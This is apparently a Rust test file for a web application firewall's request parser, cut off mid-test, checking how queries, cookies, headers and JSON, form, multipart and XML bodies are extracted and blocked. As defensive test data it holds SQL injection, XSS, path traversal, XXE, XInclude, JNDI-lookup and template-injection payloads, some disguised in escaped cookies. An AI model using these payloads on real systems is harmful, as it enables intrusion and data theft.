use std::borrow::Cow;

use super::*;

fn parts(uri: &str, headers: &[(&str, &[u8])]) -> http::request::Parts {
    let mut b = http::Request::builder().uri(uri);
    for (n, v) in headers {
        b = b.header(*n, http::HeaderValue::from_bytes(v).unwrap());
    }
    b.body(()).unwrap().into_parts().0
}

/// (address, part-free value) pairs.
fn pairs(ts: &[Target<'_>]) -> Vec<(String, String)> {
    ts.iter()
        .map(|t| (t.to_string(), t.value.to_string()))
        .collect()
}

fn p(a: &str, v: &str) -> (String, String) {
    (a.to_string(), v.to_string())
}

fn body(ct: Option<&str>, b: &[u8]) -> (Vec<(String, String)>, Vec<u32>, BodyFacts) {
    body_with(ct, b, &ExtractLimits::default())
}

fn body_with(
    ct: Option<&str>,
    b: &[u8],
    limits: &ExtractLimits,
) -> (Vec<(String, String)>, Vec<u32>, BodyFacts) {
    let mut out = Vec::new();
    let mut findings = Vec::new();
    let facts = body_targets(ct, b, limits, &mut out, &mut findings);
    assert!(out.iter().filter(|t| !t.derived).count() <= limits.max_targets);
    (
        pairs(&out),
        findings.iter().map(|f| f.rule).collect(),
        facts,
    )
}

/// The findings of a body of type `ct`, at the default limits.
fn body_findings(ct: &str, b: &[u8]) -> Vec<crate::model::Finding> {
    let mut out = Vec::new();
    let mut findings = Vec::new();
    body_targets(
        Some(ct),
        b,
        &ExtractLimits::default(),
        &mut out,
        &mut findings,
    );
    findings
}

// ----- head

#[test]
fn path_and_query() {
    let head = parts(
        "/a/b?q=1%27+or+1%3D1&x=a;b&name[]=v&we%20ird=1&empty=&flag&q=2&%zz=%",
        &[],
    );
    let mut out = Vec::new();
    let mut findings = Vec::new();
    head_targets(
        &head,
        "/a/b",
        &ExtractLimits::default(),
        &mut out,
        &mut findings,
    );
    assert!(findings.is_empty());
    assert_eq!(
        pairs(&out),
        vec![
            p("path", "/a/b"),
            p("query:q", "1' or 1=1"),
            p("query:x", "a;b"),
            p("query:name[]", "v"),
            p("query:we ird (name)", "we ird"),
            p("query:we ird", "1"),
            p("query:q", "2"),
            p("query:%zz (name)", "%zz"),
            p("query:%zz", "%"),
        ]
    );
    // Plain values are borrowed from the request.
    assert!(matches!(out[2].value, Cow::Borrowed(_)));
    assert!(matches!(out[1].value, Cow::Owned(_)));
}

/// Servers that split a query at `;` too (Rack 2, Go before 1.17, older Django) read each
/// `name=value` after a `;` as a parameter of its own: the pieces are targets as well (the
/// pair whole stays one, for servers that split at `&` alone).
#[test]
fn query_pairs_are_also_read_split_at_semicolons() {
    let head = parts("/?q=x;id=1%27;;=z;w=;v=2&a=b;c", &[]);
    let mut out = Vec::new();
    let mut findings = Vec::new();
    head_targets(
        &head,
        "/",
        &ExtractLimits::default(),
        &mut out,
        &mut findings,
    );
    assert!(findings.is_empty());
    assert_eq!(
        pairs(&out),
        vec![
            p("path", "/"),
            p("query:q", "x;id=1';;=z;w=;v=2"),
            p("query:id", "1'"),
            p("query:v", "2"),
            p("query:a", "b;c"),
        ]
    );
}

#[test]
fn query_invalid_utf8_is_lossy() {
    let head = parts("/?a=%ff%fe&b=%C3%A9", &[]);
    let mut out = Vec::new();
    head_targets(
        &head,
        "/",
        &ExtractLimits::default(),
        &mut out,
        &mut Vec::new(),
    );
    assert_eq!(out[1].value, "\u{fffd}\u{fffd}");
    assert_eq!(out[2].value, "é");
}

#[test]
fn headers_and_cookies() {
    let head = parts(
        "/",
        &[
            ("authorization", b"Bearer secret"),
            ("host", b"example.com"),
            ("user-agent", b"sqlmap/1.0"),
            ("x-odd", b"caf\xe9"),
            ("x-empty", b""),
            ("cookie", b"sid=abc; pref=a%20b+c ;  we$ird=1; ;lonely"),
            ("cookie", b"second=2"),
        ],
    );
    let mut out = Vec::new();
    head_targets(
        &head,
        "/",
        &ExtractLimits::default(),
        &mut out,
        &mut Vec::new(),
    );
    assert_eq!(
        pairs(&out),
        vec![
            p("path", "/"),
            p("header:user-agent", "sqlmap/1.0"),
            p("header:x-odd", "caf\u{fffd}"),
            p("cookie:sid", "abc"),
            p("cookie:pref", "a b+c"),
            p("cookie:we$ird (name)", "we$ird"),
            p("cookie:we$ird", "1"),
            p("cookie:second", "2"),
        ]
    );
}

/// A double-quoted cookie value is inspected as sent and as unquoted the way Python
/// (`http.cookies._unquote`), Werkzeug, Node and Go read it.
#[test]
fn quoted_cookies_are_also_inspected_unquoted() {
    let head = parts(
        "/",
        &[(
            "cookie",
            br#"a="x\073id"; b="a\\b"; c="%41\101\q"; d=""; e="; f="\477\01\"; g="abc def""#,
        )],
    );
    let mut out = Vec::new();
    head_targets(
        &head,
        "/",
        &ExtractLimits::default(),
        &mut out,
        &mut Vec::new(),
    );
    assert_eq!(
        pairs(&out),
        vec![
            p("path", "/"),
            p("cookie:a", r#""x\073id""#),
            p("cookie:a", "x;id"),
            p("cookie:b", r#""a\\b""#),
            p("cookie:b", r"a\b"),
            p("cookie:c", r#""A\101\q""#),
            p("cookie:c", "AAq"),
            p("cookie:d", r#""""#),
            p("cookie:e", r#"""#),
            // `\477` is not an octal escape (over `\377`), `\01` is too short; a trailing
            // backslash stays.
            p("cookie:f", r#""\477\01\""#),
            p("cookie:f", r"47701\"),
            p("cookie:g", r#""abc def""#),
            p("cookie:g", "abc def"),
        ]
    );
}

/// Payloads hidden in quoted cookies block; benign quoted values do not; every finding on a
/// cookie, quoted or not, has its snippet redacted.
#[test]
fn quoted_cookie_payloads_block_and_stay_redacted() {
    let run = |cookie: &str| {
        let head = parts("/", &[("cookie", cookie.as_bytes())]);
        crate::engine::inspect(
            &crate::config::RouteWaf::default(),
            &crate::engine::Inspection {
                head: &head,
                path: "/",
                client_ip: "192.0.2.1".parse().unwrap(),
                body: crate::engine::BodyState::None,
            },
        )
    };
    for c in [
        r#"pref="admin'--""#,
        r#"pref="x\047 or \0471\047=\0471""#,
        r#"pref="\074script\076alert(1)\074/script\076""#,
        r#"pref="\056\056\057\056\056\057\056\056\057etc\057passwd""#,
        r#"pref="x\073id""#,
        r#"pref="{{lipsum|attr('\137\137globals\137\137')}}""#,
    ] {
        let out = run(c);
        assert!(out.blocked, "{c}: {:?}", out.findings);
        for f in &out.findings {
            assert!(
                f.finding.snippet.starts_with("[redacted: "),
                "{c}: {:?}",
                f.finding
            );
            assert_eq!(f.finding.exclusion_key, "cookie:pref");
        }
    }
    for c in [
        r#"pref="abc def""#,
        r#"pref="a\\b""#,
        r#"messages="9f3c:1uXy\054[[\"__json_message\"\0540\05425\054\"Saved.\"]]""#,
        r#"pref="en-GB,en;q=0.7""#,
        r#"theme="dark mode"; lang="fr""#,
        r#"pref="""#,
    ] {
        let out = run(c);
        assert!(!out.blocked && out.score == 0, "{c}: {:?}", out.findings);
    }
}

/// The WebSocket handshake fields go upstream as sent and nothing checks their syntax: they
/// are inspected like any other header (they used to be skipped).
#[test]
fn websocket_handshake_headers_are_inspected() {
    let head = parts(
        "/ws",
        &[
            ("upgrade", b"websocket"),
            ("sec-websocket-key", b"${jndi:ldap://198.51.100.7/a}"),
            ("sec-websocket-accept", b"' or 1=1 --"),
            ("sec-websocket-version", b"13"),
        ],
    );
    let mut out = Vec::new();
    head_targets(
        &head,
        "/ws",
        &ExtractLimits::default(),
        &mut out,
        &mut Vec::new(),
    );
    assert_eq!(
        pairs(&out),
        vec![
            p("path", "/ws"),
            p("header:upgrade", "websocket"),
            p("header:sec-websocket-key", "${jndi:ldap://198.51.100.7/a}"),
            p("header:sec-websocket-accept", "' or 1=1 --"),
            p("header:sec-websocket-version", "13"),
        ]
    );
}

#[test]
fn target_limit_counts_head_and_body() {
    let query: String = (0..5_000).map(|i| format!("p{i}=v&")).collect();
    let head = parts(&format!("/?{query}"), &[]);
    let limits = ExtractLimits {
        max_depth: 64,
        max_targets: 100,
    };
    let mut out = Vec::new();
    let mut findings = Vec::new();
    head_targets(&head, "/", &limits, &mut out, &mut findings);
    assert_eq!(out.len(), 100);
    assert_eq!(
        findings.iter().map(|f| f.rule).collect::<Vec<_>>(),
        vec![1003]
    );
    // The body adds nothing and no second 1003.
    body_targets(
        Some("application/json"),
        br#"{"a":"b"}"#,
        &limits,
        &mut out,
        &mut findings,
    );
    assert_eq!(out.len(), 100);
    assert_eq!(findings.len(), 1);
}

#[test]
fn body_respects_what_head_left() {
    let head = parts("/?a=1&b=2", &[]);
    let limits = ExtractLimits {
        max_depth: 64,
        max_targets: 5,
    };
    let mut out = Vec::new();
    let mut findings = Vec::new();
    head_targets(&head, "/", &limits, &mut out, &mut findings);
    assert_eq!(out.len(), 3);
    body_targets(
        Some("application/json"),
        br#"{"x":1,"y":2}"#,
        &limits,
        &mut out,
        &mut findings,
    );
    assert_eq!(out.len(), 5);
    assert_eq!(
        findings.iter().map(|f| f.rule).collect::<Vec<_>>(),
        vec![1003]
    );
}

// ----- JSON

#[test]
fn json_paths() {
    let (t, f, facts) = body(
        Some("application/json; charset=utf-8"),
        br#"{"user":{"name":"bob","tags":["a","b\u0027"]},"we ird":1.5,"it's":true,"n":null,"e":"","_k9":-3}"#,
    );
    assert!(f.is_empty());
    assert_eq!(facts.kind, BodyKind::Json);
    assert_eq!(facts.json_top_array, None);
    assert_eq!(
        t,
        vec![
            p("body:$.user (name)", "user"),
            p("body:$.user.name (name)", "name"),
            p("body:$.user.name", "bob"),
            p("body:$.user.tags (name)", "tags"),
            p("body:$.user.tags[0]", "a"),
            p("body:$.user.tags[1]", "b'"),
            p("body:$['we ird'] (name)", "we ird"),
            p("body:$['we ird']", "1.5"),
            p("body:$['it\\'s'] (name)", "it's"),
            p("body:$['it\\'s']", "true"),
            p("body:$.n (name)", "n"),
            p("body:$.e (name)", "e"),
            p("body:$._k9 (name)", "_k9"),
            p("body:$._k9", "-3"),
        ]
    );
}

#[test]
fn json_strings_are_borrowed() {
    let mut out = Vec::new();
    let b = br#"{"k":"plain","e":"esc\"aped"}"#;
    body_targets(
        Some("application/json"),
        b,
        &ExtractLimits::default(),
        &mut out,
        &mut Vec::new(),
    );
    assert!(matches!(out[0].value, Cow::Borrowed("k")));
    assert!(matches!(out[1].value, Cow::Borrowed("plain")));
    assert!(matches!(out[3].value, Cow::Owned(_)));
}

#[test]
fn json_top_array_and_types() {
    let (t, f, facts) = body(Some("application/vnd.api+json"), b"[1, {\"a\": 2}, [3]]");
    assert!(f.is_empty());
    assert_eq!(facts.json_top_array, Some(3));
    assert_eq!(t[0], p("body:$[0]", "1"));
    assert_eq!(t[3], p("body:$[2][0]", "3"));
    let (t, _, facts) = body(Some("text/json"), b"\"just a string\"");
    assert_eq!(t, vec![p("body:$", "just a string")]);
    assert_eq!(facts.json_top_array, None);
}

#[test]
fn json_malformed() {
    for b in [
        &b"{\"a\":"[..],
        b"{\"a\" 1}",
        b"[1,]",
        b"{}x",
        b"\xff",
        b"{\"a\":\"\\ud800\"}",
        b"1e999999",
    ] {
        let (_, f, _) = body(Some("application/json"), b);
        assert_eq!(f, vec![1001], "{}", String::from_utf8_lossy(b));
    }
    let big = format!("[{}]", "9".repeat(10_000));
    let (_, f, _) = body(Some("application/json"), big.as_bytes());
    assert!(f == vec![1001] || f.is_empty(), "{f:?}");
    let findings = body_findings("application/json", b"{\n  \"a\": 1,\n  \"b\": oops\n}");
    assert_eq!(findings.len(), 1);
    // Where the structure broke, as its shape: a bare word where a value goes.
    assert_eq!(findings[0].snippet, r#"@19:  "a": 0,\n  "a": aaaa\n}"#);
    assert_eq!(findings[0].target, "body");
}

/// Rules 1001 and 1002 quote the shape of the bytes around the error, never their text: a
/// body cut short beside a password, or with a stray control byte, keeps it out of the log.
#[test]
fn malformed_body_snippets_show_shape_not_text() {
    for (ct, b) in [
        (
            "application/json",
            &b"{\"user\":\"jane\",\"password\":\"hunter2\""[..],
        ),
        (
            "application/json",
            b"{\"password\":\"hunter2\" \"pin\": 4321}",
        ),
        (
            "application/x-www-form-urlencoded",
            b"user=jane&password=hunter2\x01",
        ),
        (
            "application/xml",
            b"<login><password>hunter2</password><pin>4321</login>",
        ),
    ] {
        let findings = body_findings(ct, b);
        let f = findings
            .iter()
            .find(|f| f.rule == 1001)
            .unwrap_or_else(|| panic!("{ct}: no 1001 in {findings:?}"));
        for secret in ["hunter", "4321", "password", "jane"] {
            assert!(!f.snippet.contains(secret), "{ct}: {}", f.snippet);
        }
        assert!(f.snippet.starts_with('@'), "{}", f.snippet);
    }
}

#[test]
fn json_depth() {
    let ok = format!("{}{}", "[".repeat(64), "]".repeat(64));
    assert_eq!(
        body(Some("application/json"), ok.as_bytes()).1,
        Vec::<u32>::new()
    );
    let deep = format!("{}{}", "[".repeat(65), "]".repeat(65));
    assert_eq!(
        body(Some("application/json"), deep.as_bytes()).1,
        vec![1002]
    );
    let huge = "[".repeat(1 << 20);
    assert_eq!(
        body(Some("application/json"), huge.as_bytes()).1,
        vec![1002]
    );
    let objs = "{\"a\":".repeat(100_000);
    assert_eq!(
        body(Some("application/json"), objs.as_bytes()).1,
        vec![1002]
    );
    // A limit above serde_json's own (128) still reports depth.
    let limits = ExtractLimits {
        max_depth: 1000,
        max_targets: 4096,
    };
    assert_eq!(
        body_with(Some("application/json"), huge.as_bytes(), &limits).1,
        vec![1002]
    );
}

#[test]
fn json_over_target_limit_still_counts_batch() {
    let items: Vec<String> = (0..1000).map(|i| i.to_string()).collect();
    let b = format!("[{}]", items.join(","));
    let limits = ExtractLimits {
        max_depth: 64,
        max_targets: 10,
    };
    let (t, f, facts) = body_with(Some("application/json"), b.as_bytes(), &limits);
    assert_eq!(t.len(), 10);
    assert_eq!(f, vec![1003]);
    assert_eq!(facts.json_top_array, Some(1000));
}

#[test]
fn json_long_keys_are_bounded() {
    let key = "k".repeat(100_000);
    let items = vec!["1"; 3000].join(",");
    let b = format!("{{\"{key}\":[{items}]}}");
    let (t, f, _) = body(Some("application/json"), b.as_bytes());
    assert!(f.is_empty());
    assert!(t.iter().all(|(a, _)| a.len() < 700));
}

// ----- forms

#[test]
fn form_bodies() {
    let (t, f, facts) = body(
        Some("Application/X-WWW-Form-Urlencoded; charset=UTF-8"),
        b"user=bob&comment=%3Cscript%3E+x&bad=%zz%&a%5Bb%5D=1",
    );
    assert!(f.is_empty());
    assert_eq!(facts.kind, BodyKind::Form);
    assert_eq!(
        t,
        vec![
            p("body:user", "bob"),
            p("body:comment", "<script> x"),
            p("body:bad", "%zz%"),
            p("body:a[b]", "1"),
        ]
    );
    let (t, f, _) = body(Some("application/x-www-form-urlencoded"), b"a=1\0&b=2");
    assert_eq!(f, vec![1001]);
    assert_eq!(t.len(), 2);
}

// ----- multipart

const CT: &str = "multipart/form-data; boundary=XyZ";

#[test]
fn multipart_fields_and_files() {
    let b = b"preamble\r\n--XyZ\r\n\
Content-Disposition: form-data; name=\"title\"\r\n\r\n\
hello ' or 1=1\r\n--XyZ\r\n\
Content-Disposition: form-data; name=\"upload\"; filename=\"../../etc/passwd\"\r\n\
Content-Type: text/plain\r\n\r\n\
root:x:0:0\r\n--XyZ\r\n\
content-disposition: form-data; name=\"doc\"; filename=\"x.php\"; filename*=UTF-8''%2e%2e%2fx.php\r\n\r\n\
<?php ?>\r\n--XyZ\r\n\
Content-Disposition: form-data; name=\"blob\"\r\nContent-Type: image/png\r\n\r\n\
\x89PNG\r\n--XyZ\r\n\
Content-Disposition: form-data; name=\"j$on\"\r\nContent-Type: application/json\r\n\r\n\
{\"a\":1}\r\n--XyZ\r\n\
Content-Disposition: form-data; name=\"empty\"\r\n\r\n\
\r\n--XyZ--\r\nepilogue";
    let (t, f, facts) = body(Some(CT), b);
    assert!(f.is_empty(), "{f:?}");
    assert_eq!(facts.kind, BodyKind::Multipart);
    assert_eq!(
        t,
        vec![
            p("body:title", "hello ' or 1=1"),
            p("body:upload (filename)", "../../etc/passwd"),
            p("body:doc (filename)", "x.php"),
            p("body:doc (filename)", "../x.php"),
            // No file name: a form value to every server, whatever its type says.
            p("body:blob", "\u{fffd}PNG"),
            p("body:j$on (name)", "j$on"),
            p("body:j$on", "{\"a\":1}"),
        ]
    );
}

/// A part without a file name — or with an empty one — is a form value to the servers behind,
/// whatever its type: its content is inspected.
#[test]
fn multipart_values_are_inspected_whatever_their_type() {
    let b = b"--XyZ\r\n\
Content-Disposition: form-data; name=\"q\"\r\nContent-Type: image/png\r\n\r\n\
1' OR 1=1--\r\n--XyZ\r\n\
Content-Disposition: form-data; name=\"r\"; filename=\"\"\r\n\
Content-Type: application/octet-stream\r\n\r\n\
<script>alert(1)</script>\r\n--XyZ--\r\n";
    let (t, f, _) = body(Some(CT), b);
    assert!(f.is_empty(), "{f:?}");
    assert_eq!(
        t,
        vec![
            p("body:q", "1' OR 1=1--"),
            p("body:r", "<script>alert(1)</script>")
        ]
    );
}

#[test]
fn multipart_lf_and_quoted_boundary() {
    let b = b"--a;b\nContent-Disposition: form-data; name=x\n\nvalue\n--a;b--\n";
    let (t, f, _) = body(Some("multipart/form-data; boundary=\"a;b\""), b);
    assert!(f.is_empty(), "{f:?}");
    assert_eq!(t, vec![p("body:x", "value")]);
}

/// The boundary inside a value, not starting a line nor ending like a delimiter, is text (a
/// line that starts with it is a delimiter: see `multipart::tests`).
#[test]
fn multipart_content_containing_boundary_text() {
    let b = b"--XyZ\r\nContent-Disposition: form-data; name=x\r\n\r\na --XyZ b\r\nx--XyZnot\r\nc\r\n--XyZ--";
    let (t, f, _) = body(Some(CT), b);
    assert!(f.is_empty(), "{f:?}");
    assert_eq!(t, vec![p("body:x", "a --XyZ b\r\nx--XyZnot\r\nc")]);
}

#[test]
fn multipart_malformed() {
    let cases: &[(&str, &[u8])] = &[
        ("multipart/form-data", b"--XyZ\r\n\r\n--XyZ--"),
        (CT, b"no delimiter at all"),
        (
            CT,
            b"--XyZ\r\nContent-Disposition: form-data; name=a\r\n\r\nvalue never closed",
        ),
        (CT, b"--XyZ\r\ngarbage header line\r\n\r\nx\r\n--XyZ--"),
        (CT, b"--XyZ\r\nContent-Type: text/plain\r\n\r\nx\r\n--XyZ--"),
        (CT, b"--XyZ\r\nContent-Disposition: form-data; name=a"),
    ];
    for (ct, b) in cases {
        let (_, f, _) = body(Some(ct), b);
        assert_eq!(f, vec![1001], "{}", String::from_utf8_lossy(b));
    }
}

#[test]
fn multipart_many_parts() {
    let mut b = Vec::new();
    for i in 0..100_000 {
        b.extend_from_slice(
            format!("--XyZ\r\nContent-Disposition: form-data; name=f{i}\r\n\r\nv\r\n").as_bytes(),
        );
    }
    b.extend_from_slice(b"--XyZ--\r\n");
    let (t, f, _) = body(Some(CT), &b);
    assert_eq!(t.len(), 4096);
    assert_eq!(f, vec![1003]);
}

// ----- XML

#[test]
fn xml_targets() {
    let b = br#"<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<?xml-stylesheet href="x.xsl"?>
<order id="7" note="a &lt; b &amp; &ext;">
  <item sku="A1">one &lt; two &xxe; &#x41;</item>
  <item><![CDATA[<script>]]></item>
  <empty/>
  <!-- comment -->
</order>"#;
    let (t, f, facts) = body(Some("application/xml"), b);
    assert!(f.is_empty(), "{f:?}");
    assert_eq!(facts.kind, BodyKind::Xml);
    assert_eq!(
        t,
        vec![
            p(
                "body:!DOCTYPE",
                r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#
            ),
            p("body:?pi", r#"<?xml-stylesheet href="x.xsl"?>"#),
            p("body:/order/@id", "7"),
            p("body:/order/@note", "a < b & &ext;"),
            p("body:/order/item/@sku", "A1"),
            p("body:/order/item", "one < two &xxe; A"),
            p("body:/order/item", "<script>"),
        ]
    );
}

/// XInclude and XSLT elements are targets of their own, as written, so the rules see an
/// element with its attributes; other tags (SOAP's) are not.
#[test]
fn xml_processor_markup_is_a_target() {
    let b = br#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/><include xmlns="http://www.w3.org/2003/XInclude" href="x"></include></foo>"#;
    let (t, f, _) = body(Some("application/xml"), b);
    assert!(f.is_empty(), "{f:?}");
    let tags: Vec<_> = t.iter().filter(|(a, _)| a.ends_with("/<tag>")).collect();
    assert_eq!(
        tags,
        vec![
            &p(
                "body:/foo/<tag>",
                r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude">"#
            ),
            &p(
                "body:/foo/xi:include/<tag>",
                r#"<xi:include parse="text" href="file:///etc/passwd">"#
            ),
            &p(
                "body:/foo/include/<tag>",
                r#"<include xmlns="http://www.w3.org/2003/XInclude" href="x">"#
            ),
        ]
    );
    let b = br#"<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="system-property('xsl:vendor')"/></xsl:stylesheet>"#;
    let (t, _, _) = body(Some("application/xslt+xml"), b);
    assert!(t.contains(&p(
        "body:/xsl:stylesheet/xsl:value-of/<tag>",
        r#"<xsl:value-of select="system-property('xsl:vendor')">"#
    )));
    // The namespace written with character references is the same namespace.
    let b = br#"<r xmlns:x="http://www.w3.org/2001&#47;XInclude"><x:inc/></r>"#;
    let (t, _, _) = body(Some("application/xml"), b);
    assert!(t.iter().any(|(a, _)| a == "body:/r/<tag>"), "{t:?}");
    let soap = br#"<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:Get xmlns:m="urn:x">1</m:Get></soap:Body></soap:Envelope>"#;
    let (t, f, _) = body(Some("application/soap+xml"), soap);
    assert!(f.is_empty(), "{f:?}");
    assert!(!t.iter().any(|(a, _)| a.ends_with("/<tag>")), "{t:?}");
}

/// A processing instruction does not end the text around it, as a comment does not; an
/// element with mixed content is also a target holding its joined text (its own and its
/// descendants', in document order), each piece staying one too.
#[test]
fn xml_text_is_joined_across_instructions_and_child_elements() {
    let xml = |b: &str| {
        let (t, f, _) = body(Some("application/xml"), b.as_bytes());
        assert!(f.is_empty(), "{b}: {f:?}");
        t
    };
    assert_eq!(
        xml("<r><q>1' UNI<?x?>ON SELECT password FROM users--</q></r>"),
        vec![
            p("body:?pi", "<?x?>"),
            p("body:/r/q", "1' UNION SELECT password FROM users--"),
        ]
    );
    assert_eq!(
        xml("<r><q>${jn<?x?>di:ldap://evil/a}</q></r>"),
        vec![
            p("body:?pi", "<?x?>"),
            p("body:/r/q", "${jndi:ldap://evil/a}")
        ]
    );
    assert_eq!(
        xml("<r><q>1' UNI<b/>ON SELECT password FROM users--</q></r>"),
        vec![
            p("body:/r/q", "1' UNI"),
            p("body:/r/q", "ON SELECT password FROM users--"),
            p("body:/r/q", "1' UNION SELECT password FROM users--"),
        ]
    );
    assert_eq!(
        xml("<r><q>x' O<b/>R 'a'='a</q></r>"),
        vec![
            p("body:/r/q", "x' O"),
            p("body:/r/q", "R 'a'='a"),
            p("body:/r/q", "x' OR 'a'='a"),
        ]
    );
    // Descendants' text in document order, at every level with text of its own; an
    // instruction, a comment and references inside.
    assert_eq!(
        xml("<r><q>a<b>b<c>c</c>d</b>e<?x?>&amp;<!-- -->f</q></r>"),
        vec![
            p("body:/r/q", "a"),
            p("body:/r/q/b", "b"),
            p("body:/r/q/b/c", "c"),
            p("body:/r/q/b", "d"),
            p("body:/r/q/b", "bcd"),
            p("body:?pi", "<?x?>"),
            p("body:/r/q", "e&f"),
            p("body:/r/q", "abcde&f"),
        ]
    );
    // Blanks between children are not text of the element's own; one run is no join.
    assert_eq!(
        xml("<order>\n  <id>1</id>\n  <name>x</name>\n</order>"),
        vec![p("body:/order/id", "1"), p("body:/order/name", "x")]
    );
    assert_eq!(xml("<r><q>text<b/></q></r>"), vec![p("body:/r/q", "text")]);
    assert_eq!(
        xml("<r><q> a <b> </b> </q></r>"),
        vec![p("body:/r/q", " a ")]
    );
}

/// Elements with joined text nested more than 8 deep are rule 1002: each level inspects the
/// text inside it again. Their targets stay within the value limit.
#[test]
fn xml_joined_text_is_bounded() {
    let nested = |n: usize| format!("<r>{}y{}</r>", "<a>x<b/>".repeat(n), "</a>".repeat(n));
    let (t, f, _) = body(Some("text/xml"), nested(8).as_bytes());
    assert!(f.is_empty(), "{f:?}");
    assert_eq!(t.iter().filter(|(_, v)| v.len() > 1).count(), 8, "{t:?}");
    assert!(t.contains(&p("body:/r/a", "xxxxxxxxy")), "{t:?}");
    let (_, f, _) = body(Some("text/xml"), nested(9).as_bytes());
    assert_eq!(f, vec![1002]);
    // Side by side they are no deeper.
    let wide = format!("<r>{}</r>", "<a>x<b/>y</a>".repeat(1000));
    let (t, f, _) = body(Some("text/xml"), wide.as_bytes());
    assert!(f.is_empty(), "{f:?}");
    assert_eq!(t.len(), 3000);
    let limits = ExtractLimits {
        max_targets: 100,
        ..ExtractLimits::default()
    };
    let (t, f, _) = body_with(Some("text/xml"), wide.as_bytes(), &limits);
    assert_eq!(f, vec![1003]);
    assert_eq!(t.iter().filter(|(_, v)| v.len() == 1).count(), 100);
}

/// Joined texts are not counted toward the target limit (a benign XHTML or DocBook document
/// near it does not trip rule 1003 for them) and are made while their total length stays
/// within the body's, so nesting cannot multiply the text inspected.
#[test]
fn xml_joined_text_has_a_budget_and_is_not_counted() {
    let xml = |b: &str, limits: &ExtractLimits| {
        let mut out = Vec::new();
        let mut findings = Vec::new();
        body_targets(
            Some("application/xml"),
            b.as_bytes(),
            limits,
            &mut out,
            &mut findings,
        );
        let rules: Vec<u32> = findings.iter().map(|f| f.rule).collect();
        let joined: Vec<usize> = out
            .iter()
            .filter(|t| t.derived)
            .map(|t| t.value.len())
            .collect();
        (out.len(), joined, rules)
    };
    // 3900 runs and 1300 joined texts: within the limit of 4096.
    let doc = format!("<doc>{}</doc>", "<p>a <b>b</b> c</p>".repeat(1300));
    let (n, joined, rules) = xml(&doc, &ExtractLimits::default());
    assert!(rules.is_empty(), "{rules:?}");
    assert_eq!((n, joined.len()), (5200, 1300));
    // Nested mixed content holding a long text: each level holds it again, within four times
    // the body's length …
    let long = "z".repeat(10_000);
    let nested = |levels: usize| {
        format!(
            "<r>{}{long}{}</r>",
            "<a>x<b/>".repeat(levels),
            "</a>".repeat(levels)
        )
    };
    let three = nested(3);
    let (_, joined, rules) = xml(&three, &ExtractLimits::default());
    assert!(rules.is_empty(), "{rules:?}");
    assert_eq!(joined.len(), 3);
    assert!(
        joined.iter().sum::<usize>() <= 4 * three.len(),
        "{joined:?}"
    );
    // The innermost ones are made first.
    assert_eq!(joined.first(), Some(&(long.len() + 1)));
    // … and past it the body does not pass (a split attack behind enough nesting would
    // otherwise go unread): rule 1002.
    let (_, _, rules) = xml(&nested(8), &ExtractLimits::default());
    assert_eq!(rules, [1002]);
}

#[test]
fn xml_types() {
    for ct in [
        "text/xml",
        "application/soap+xml; charset=utf-8",
        "application/atom+xml",
    ] {
        let (t, f, _) = body(Some(ct), b"<a>x</a>");
        assert!(f.is_empty());
        assert_eq!(t, vec![p("body:/a", "x")]);
    }
}

#[test]
fn xml_malformed() {
    for b in [
        &b"<a><b></a>"[..],
        b"<a>",
        b"just text",
        b"<a></a><b></b>",
        b"<a></a>tail",
        b"<a x='1' x='2'/>",
        b"<a>\xff</a>",
        b"<a",
    ] {
        let (_, f, _) = body(Some("application/xml"), b);
        assert_eq!(f, vec![1001], "{}", String::from_utf8_lossy(b));
    }
}

#[test]
fn xml_depth() {
    let ok = format!("{}{}", "<a>".repeat(64), "</a>".repeat(64));
    assert!(body(Some("text/xml"), ok.as_bytes()).1.is_empty());
    let deep = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    assert_eq!(body(Some("text/xml"), deep.as_bytes()).1, vec![1002]);
}

// ----- other kinds

#[test]
fn graphql_and_text() {
    let (t, _, facts) = body(Some("application/graphql"), b"{ user(id: 1) { name } }");
    assert_eq!(facts.kind, BodyKind::GraphQl);
    assert_eq!(t, vec![p("body:$.query", "{ user(id: 1) { name } }")]);
    let (t, _, facts) = body(Some("text/plain"), b"hello\xff world");
    assert_eq!(facts.kind, BodyKind::Text);
    assert_eq!(t, vec![p("body", "hello\u{fffd} world")]);
    let (t, _, facts) = body(None, b"id=1 union select");
    assert_eq!(facts.kind, BodyKind::Text);
    assert_eq!(t.len(), 1);
    let (t, _, facts) = body(Some("application/x-custom"), b"some text");
    assert_eq!(facts.kind, BodyKind::Text);
    assert_eq!(t.len(), 1);
}

#[test]
fn textual_json_is_read_as_json() {
    let (t, f, facts) = body(Some("text/plain"), br#"{"q":"\u0027 or 1=1"}"#);
    assert!(f.is_empty());
    assert_eq!(facts.kind, BodyKind::Json);
    assert_eq!(
        t,
        vec![p("body:$.q (name)", "q"), p("body:$.q", "' or 1=1")]
    );
    // Not JSON after all: one raw target, no finding.
    let (t, f, facts) = body(None, b"{not json");
    assert!(f.is_empty());
    assert_eq!(facts.kind, BodyKind::Text);
    assert_eq!(t, vec![p("body", "{not json")]);
}

#[test]
fn binary_bodies() {
    for ct in [
        "image/png",
        "application/octet-stream",
        "application/zip",
        "font/woff2",
        "application/grpc+proto",
    ] {
        let (t, f, facts) = body(Some(ct), b"' or 1=1 --");
        assert!(t.is_empty() && f.is_empty());
        assert_eq!(facts.kind, BodyKind::Binary);
    }
    let junk: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
    let (t, _, facts) = body(Some("application/x-unknown"), &junk);
    assert!(t.is_empty());
    assert_eq!(facts.kind, BodyKind::Binary);
}

/// UTF-16LE of `s` (ASCII).
fn utf16le(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A form, text or XML body an upstream decodes from a charset that is not ASCII-transparent
/// holds characters the WAF (reading UTF-8) did not see.
#[test]
fn charsets_other_than_plain_ones_are_ambiguous() {
    for (ct, b) in [
        (
            "application/x-www-form-urlencoded; charset=utf-7",
            &b"q=%2BACc- or 1=1"[..],
        ),
        (
            "application/x-www-form-urlencoded;charset=\"UTF-16\"",
